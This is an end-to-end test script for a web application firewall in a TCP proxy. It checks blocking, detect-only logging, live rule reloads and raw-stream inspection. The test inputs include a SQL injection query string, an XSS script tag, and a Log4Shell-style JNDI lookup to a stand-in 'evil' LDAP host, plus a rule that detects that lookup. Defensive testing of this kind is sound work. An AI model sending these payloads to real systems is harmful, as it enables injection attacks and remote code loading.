#!/usr/bin/python3
"""The WAF in service kind tcp: client -> edged (userspace TCP on a DPDK af_packet port, shipped
rules in a rules dir) -> nginx with PROXY v2. Enforce mode: a clean GET and a POST reach nginx, a
SQLi and an XSS get 403 with an X-Request-Id that the audit log repeats with the rule id. A second
service in detect-only mode passes the same attack to nginx and logs it. A rule added to the rules
dir blocks new requests within seconds while a slow download that started before completes
byte-exact; a bad rule file leaves the old rules serving and is logged with file:line."""
import hashlib
import json
import os
import shutil
import tempfile
import threading
import time

import harness as h

t = h.tag("waf")
c = h.Check("test_waf")
topo = h.TcpTopology(t, net="10.98")
cli, dut, be = topo.cli, topo.dut, topo.be

VIP = topo.vip
work, www = topo.work, topo.www
with open(os.path.join(www, "index.html"), "w") as f:
    f.write("hello through the waf\n")
os.makedirs(os.path.join(www, "forbidden-path"))
with open(os.path.join(www, "forbidden-path", "index.html"), "w") as f:
    f.write("not yet forbidden\n")
big = os.path.join(www, "big")
with open(big, "wb") as f:
    f.write(os.urandom(16 << 20))
with open(big, "rb") as f:
    big_sha = hashlib.sha256(f.read()).hexdigest()

rules_dir = os.path.join(work, "rules")
shipped = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "rules", "shipped")
shutil.copytree(shipped, rules_dir)
audit_log = os.path.join(work, "audit.log")

nginx = topo.start_nginx("""
    listen 80 proxy_protocol;
    listen 8080 proxy_protocol;
    location = /search { return 200 "search ok\\n"; }
    location = /post { return 200 "posted\\n"; }""")

# The enforce policy is a file next to the config (a relative path); the detect-only one is inline.
e_dir = tempfile.mkdtemp(prefix="edge-e2e-waf-conf-")
with open(os.path.join(e_dir, "enforce.yaml"), "w") as f:
    f.write("name: enforce\nmode: enforce\nanomaly_threshold: 5\n")
config = f"""{topo.edged_head()}tcp:
  max_connections: 1024
waf:
  rules_dir: {rules_dir}
  audit_log: {audit_log}
pools:
  - name: gw
    connect_timeout_ms: 500
    backends:
      - {{address: 10.98.1.11, port: 80}}
  - name: gw-detect
    connect_timeout_ms: 500
    backends:
      - {{address: 10.98.1.11, port: 8080}}
services:
  - name: web
    vip: {VIP}
    port: 80
    kind: tcp
    pool: gw
    waf: {{policy: {os.path.join(e_dir, "enforce.yaml")}}}
  - name: web-detect
    vip: {VIP}
    port: 8080
    kind: tcp
    pool: gw-detect
    waf:
      policy: {{name: detect, mode: detect_only}}
"""
e = h.Edged(dut, config)

SQLI = "/search?q=1%27%20union%20select%20password%20from%20users"
XSS = "/search?q=<script>alert(1)</script>"


def request(path, port=80, extra=(), timeout=20):
    """(status, headers dict lowercased, body) of one request through edged."""
    r = cli.run(["curl", "-s", "-S", "-g", "-i", "--max-time", str(timeout), *extra,
                 f"http://{VIP}:{port}{path}"], check=False, timeout=timeout + 10)
    out = r.stdout.replace("\r\n", "\n")  # text mode may or may not have translated CRLF
    head, _, body = out.partition("\n\n")
    lines = head.split("\n")
    status = int(lines[0].split()[1]) if lines and len(lines[0].split()) > 1 else 0
    hdrs = {}
    for ln in lines[1:]:
        k, _, v = ln.partition(":")
        hdrs[k.strip().lower()] = v.strip()
    return status, hdrs, body


def audit_lines(wait_for=None, timeout=5):
    deadline = time.time() + timeout
    while True:
        entries = []
        if os.path.exists(audit_log):
            with open(audit_log) as f:
                for ln in f:
                    ln = ln.strip()
                    if ln:
                        try:
                            entries.append(json.loads(ln))
                        except ValueError:
                            entries.append({"unparsable": ln})
        if wait_for is None or any(wait_for(x) for x in entries) or time.time() > deadline:
            return entries
        time.sleep(0.1)


# --- enforce: clean traffic passes --------------------------------------------------------------
s, _, body = request("/index.html")
c.that(s == 200 and body == "hello through the waf\n", f"clean GET passes (status {s})")
s, _, body = request("/post", extra=("-X", "POST", "--data", "name=alice&comment=hello"))
c.that(s == 200 and body == "posted\n", f"clean POST passes (status {s}, body {body!r})")

# --- enforce: attacks are blocked, with a request id the audit log repeats -------------------------
for what, path in (("SQLi", SQLI), ("XSS", XSS)):
    s, hd, _ = request(path)
    rid = hd.get("x-request-id", "")
    c.that(s == 403 and rid != "", f"{what} gets 403 with an X-Request-Id (status {s}, id {rid!r})")
    entries = audit_lines(lambda x, rid=rid: x.get("request_id") == rid)
    mine = [x for x in entries if rid and x.get("request_id") == rid]
    c.that(any(x.get("rule_id", 0) > 0 and x.get("verdict") == "block" and x.get("service") == "web" for x in mine),
           f"{what}: audit log has a block line with a rule id and request id {rid} ({mine[:2]})")
nginx_log = open(os.path.join(work, "access.log")).read()
c.that("union" not in nginx_log.lower() and "script" not in nginx_log,
       "nginx never saw the blocked requests")

# --- detect-only: the same attack reaches nginx and is logged --------------------------------------
s, hd, body = request(SQLI, port=8080)
c.that(s == 200 and body == "search ok\n", f"detect-only service passes the SQLi to nginx (status {s})")
entries = audit_lines(lambda x: x.get("service") == "web-detect")
c.that(any(x.get("service") == "web-detect" and x.get("verdict") == "detect" and x.get("rule_id", 0) > 0
           for x in entries), "detect-only: the audit log has a detect line for the SQLi")

# --- live rule change: new requests blocked within seconds, a running download completes -----------
s, _, body = request("/forbidden-path/")
c.that(s == 200, f"/forbidden-path/ passes before the rule exists (status {s})")
dl = {}


def download():
    r = cli.run(["sh", "-c", f"curl -s -S --limit-rate 2M --max-time 60 http://{VIP}/big | sha256sum"],
                check=False, timeout=90)
    dl["sha"] = r.stdout.split()[0] if r.stdout.split() else ""


th = threading.Thread(target=download)
th.start()
time.sleep(1.0)
with open(os.path.join(rules_dir, "local.tmp"), "w") as f:
    f.write("""set: local
rules:
  - id: 190001
    message: "Forbidden path (e2e)"
    phase: uri_path
    operator: begins_with
    pattern: /forbidden-path
    action: block
    severity: critical
""")
os.rename(os.path.join(rules_dir, "local.tmp"), os.path.join(rules_dir, "local.yaml"))
t0 = time.time()
blocked_after = None
while time.time() - t0 < 10:
    s, _, _ = request("/forbidden-path/", timeout=5)
    if s == 403:
        blocked_after = time.time() - t0
        break
    time.sleep(0.2)
c.that(blocked_after is not None and blocked_after < 5,
       f"a rule added to the rules dir blocks new requests within 5 s (after {blocked_after})")
th.join()
c.that(dl.get("sha") == big_sha, "a 16 MiB download started before the rule change completes byte-exact")

# --- a bad rule file: old rules keep serving, the error names file:line ---------------------------
with open(os.path.join(rules_dir, "broken.tmp"), "w") as f:
    f.write("set: broken\nrules:\n  - id: 190002\n    phase: args\n    pattern: \"(unclosed\"\n")
os.rename(os.path.join(rules_dir, "broken.tmp"), os.path.join(rules_dir, "broken.yaml"))
deadline = time.time() + 5
logged = False
while time.time() < deadline and not logged:
    logged = "broken.yaml:" in e.logs()
    time.sleep(0.2)
c.that(logged, "the bad rule file is logged with file:line")
s, _, _ = request("/forbidden-path/")
c.that(s == 403, f"the previous rules keep serving after the bad file (status {s})")
s, _, _ = request("/index.html")
c.that(s == 200, f"clean traffic still passes (status {s})")
m = e.metrics()
c.that(any(k.startswith("edge_waf") for k in m), "/metrics has edge_waf series")
os.remove(os.path.join(rules_dir, "broken.yaml"))

c.that(e.stop() == 0, "edged exits cleanly")

# --- raw payload (not HTTP): a second edged with a `tcp` service whose policy says inspect: raw --------
# The raw rule runs in stream mode over the whole client stream; a match split across two TCP segments
# resets the client and the upstream, and is counted and audited. Clean bytes reach an echo backend
# (no PROXY header: the pool turns it off). The WAF services are fixed at start, hence a new edged.
with open(os.path.join(rules_dir, "raw.tmp"), "w") as f:
    f.write("""set: raw
rules:
  - id: 190100
    message: "JNDI lookup in a raw stream (e2e)"
    phase: raw_payload
    operator: contains
    pattern: "${jndi:"
    transforms: [lowercase]
    action: block
    severity: critical
""")
os.rename(os.path.join(rules_dir, "raw.tmp"), os.path.join(rules_dir, "raw.yaml"))
echo = topo.start_echo(7000)
raw_config = f"""{topo.edged_head()}waf:
  rules_dir: {rules_dir}
  audit_log: {audit_log}
pools:
  - name: echo
    proxy_protocol: false
    connect_timeout_ms: 500
    backends:
      - {{address: 10.98.1.11, port: 7000}}
services:
  - name: broker
    vip: {VIP}
    port: 7000
    kind: tcp
    pool: echo
    waf:
      policy: {{name: raw, inspect: raw}}
"""
e2 = h.Edged(dut, raw_config)
RAW_CLIENT = f"""
import socket, sys, time
s = socket.create_connection(('{VIP}', 7000), timeout=5)
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
parts = [p.encode() for p in sys.argv[1:]]
try:
    got = b''
    for p in parts:
        s.sendall(p)
        time.sleep(0.3)  # one TCP segment each
    want = b''.join(parts)
    while len(got) < len(want):
        b = s.recv(4096)
        if not b:
            break
        got += b
    print('echo' if got == want else 'got ' + repr(got))
except ConnectionResetError:
    print('reset')
"""


def raw_exchange(*parts):
    r = cli.run(["/usr/bin/python3", "-c", RAW_CLIENT, *parts], check=False, timeout=30)
    return (r.stdout.strip() or r.stderr.strip()[-200:])


got = raw_exchange("HELLO broker\n", "PUB t/1 {\"x\": 1}\n")
c.that(got == "echo", f"raw service: a clean binary-ish stream is echoed by the backend ({got})")
got = raw_exchange("PUB t/1 ${JN", "DI:ldap://evil/a}\n")
c.that(got == "reset", f"raw service: a raw rule match split across two segments resets the client ({got})")
entries = audit_lines(lambda x: x.get("service") == "broker")
mine = [x for x in entries if x.get("service") == "broker"]
c.that(any(x.get("rule_id") == 190100 and x.get("verdict") == "block" and x.get("raw") is True for x in mine),
       f"raw block audited with rule id 190100 ({mine[:2]})")
m = e2.metrics()
c.that(m.get('edge_relay_ends_total{outcome="waf_blocked"}', 0) == 1, "counted as relay end waf_blocked")
c.that(m.get("edge_waf_raw_blocked_total", 0) == 1, "counted as edge_waf_raw_blocked_total")
c.that(m.get('edge_waf_service_blocked_total{service="broker"}', 0) == 1
       and m.get('edge_waf_service_inspected_total{service="broker"}', 0) == 2,
       "per service: 2 raw streams inspected, 1 blocked")
c.that(m.get('edge_waf_rule_matches_total{service="broker",rule="190100"}', 0) == 1,
       "per rule id and service: rule 190100 matched once on broker")
got = raw_exchange("still ok\n")
c.that(got == "echo", f"the service keeps relaying after a reset ({got})")
c.that(e2.stop() == 0, "the raw edged exits cleanly")
c.done(e2)
